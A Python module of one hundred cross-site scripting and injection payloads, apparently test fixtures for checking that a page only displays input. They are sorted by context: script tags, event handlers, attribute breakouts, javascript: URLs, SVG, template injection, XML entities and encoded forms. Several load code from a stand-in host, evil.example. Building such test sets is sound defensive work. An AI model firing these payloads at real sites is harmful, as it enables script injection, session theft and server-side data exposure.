"""A hundred ways to make a page run what it should only show.

Each would call `hit()` or reach for `evil.example` somewhere: between tags, in an attribute, an
address, a template, a block of JSON, XML, a style sheet, or after somebody has decoded it once too
often. `batches` packs them for names of a hundred and twenty characters.
"""

from __future__ import annotations

from collections.abc import Iterator

ELEMENTS = [
    "<script>hit(1)</script>",
    "<script src=//evil.example/2.js></script>",
    "<ScRiPt>hit(3)</sCrIpT >",
    "<script/x>hit(4)</script>",
    "<<script>hit(5)//<</script>",
    "<script>hit`6`</script>",
    "<script type=module>hit(7)</script>",
    "</title><script>hit(8)</script>",
    "</textarea><script>hit(9)</script>",
    "</style><script>hit(10)</script>",
    "</noscript><script>hit(11)</script>",
    "</select><script>hit(12)</script>",
    "<iframe src=javascript:hit(13)>",
    "<iframe srcdoc='<script>parent.hit(14)</script>'>",
    "<object data=javascript:hit(15)>",
    "<embed src=javascript:hit(16)>",
    "<base href=//evil.example/17/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/18>",
    "<link rel=stylesheet href=//evil.example/19.css>",
    "<form action=javascript:hit(20)><button>贷</button>",
    "<template><script>hit(21)</script></template>",
    "<portal src=//evil.example/22>",
]
HANDLERS = [
    "<img src=x onerror=hit(23)>",
    "<img/src=x/onerror=hit(24)>",
    "<img src=x onerror\t=hit(25)>",
    "<image src=x onerror=hit(26)>",
    "<img src=x:x onerror=&#104;it(27)>",
    "<body onload=hit(28)>",
    "<body onpageshow=hit(29)>",
    "<input onfocus=hit(30) autofocus>",
    "<details open ontoggle=hit(31)>",
    "<video><source onerror=hit(32)></video>",
    "<audio src=x onerror=hit(33)>",
    "<marquee onstart=hit(34)>",
    "<p onmouseover=hit(35)>贷款</p>",
    "<b style=animation:x onanimationstart=hit(36)>",
    "<a onclick=hit(37) href=/>贷</a>",
    "<xss id=x onfocus=hit(38) tabindex=1>#x",
    "<button popovertarget=x onbeforetoggle=hit(39)>",
    "<p hx-on:click=hit(40) hx-trigger=load>",
    "<p hx-get=//evil.example/41 hx-trigger=load>",
]
OUT_OF_ATTRIBUTES = [
    '"><script>hit(42)</script>',
    "'><script>hit(43)</script>",
    '" onmouseover="hit(44)',
    "' onmouseover='hit(45)",
    '" autofocus onfocus="hit(46)" x="',
    "x onerror=hit(47)",
    "` onmouseover=`hit(48)",
    '"/><img src=x onerror=hit(49)><x y="',
    '" style="background:url(//evil.example/50)',
    '" src="//evil.example/51" x="',
    '\\"><img src=x onerror=hit(52)>',
    "&quot;><img src=x onerror=hit(53)>",
    '" accesskey="x" onclick="hit(54)',
]
ADDRESSES = [
    "javascript:hit(55)",
    "JaVaScRiPt:hit(56)",
    "java\tscript:hit(57)",
    "javascript&colon;hit(58)",
    "javascript://evil.example/%0ahit(59)",
    "data:text/html,<script>hit(60)</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoNjEpPC9zY3JpcHQ+",
    "vbscript:hit(62)",
    "//evil.example/63",
    "https://evil.example/64?<script>hit(64)</script>",
    "feed:javascript:hit(65)",
    "[贷款](javascript:hit(66))",
]
DRAWINGS = [
    "<svg onload=hit(67)>",
    "<svg/onload=hit(68)//",
    "</text></svg><script>hit(69)</script>",
    "</title></svg><img src=x onerror=hit(70)>",
    "<svg><script>hit&#40;71)</script></svg>",
    "<svg><a href=javascript:hit(72)><text>贷</text></a></svg>",
    "<svg><animate onbegin=hit(73) attributeName=x dur=1s>",
    "<svg><use href=//evil.example/74.svg#x>",
    "<svg><foreignObject><img src=x onerror=hit(75)>",
    "<math><mtext><img src=x onerror=hit(76)></mtext></math>",
    "<math><a xlink:href=javascript:hit(77)>贷</a></math>",
    "<svg><style><img src=x onerror=hit(78)></style>",
]
TEMPLATES = [
    "{{ hit(79) }}",
    "{% debug %}{% load static %}",
    "{{ request.META|safe }}",
    "${hit(82)}",
    "#{hit(83)}",
    "{0.__class__.__init__.__globals__}",
    "{sum}{name}{n}{}",
    "%(name)s%s%n%x",
    "{{constructor.constructor('hit(87)')()}}",
    "<%= hit(88) %>",
]
DOCUMENTS = [
    "</script><script>hit(89)</script>",
    '","@type":"x"}</script><img src=x onerror=hit(90)>',
    "<!--<script>hit(91)",
    "--><script>hit(92)</script><!--",
    "]]><script>hit(93)</script><![CDATA[",
    "<![CDATA[<script>hit(94)</script>]]>",
    "<?xml-stylesheet href=//evil.example/95.xsl?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM '//evil.example/96'>]>&e;",
]
DECODED = [
    "&lt;script&gt;hit(97)&lt;/script&gt;",
    "%3Cscript%3Ehit(98)%3C%2Fscript%3E",
    "\\u003cscript\\u003ehit(99)\\u003c/script\\u003e",
    "＜script＞\u2028hit(100)\u2029＜/script＞\u202e",
]
INJECTIONS = [
    *ELEMENTS,
    *HANDLERS,
    *OUT_OF_ATTRIBUTES,
    *ADDRESSES,
    *DRAWINGS,
    *TEMPLATES,
    *DOCUMENTS,
    *DECODED,
]


def batches(most: int = 120) -> Iterator[list[str]]:
    """All of them, as many at a time as fit into `most` characters with a space between."""
    batch: list[str] = []
    for text in INJECTIONS:
        if batch and len(" ".join([*batch, text])) > most:
            yield batch
            batch = []
        batch.append(text)
    yield batch
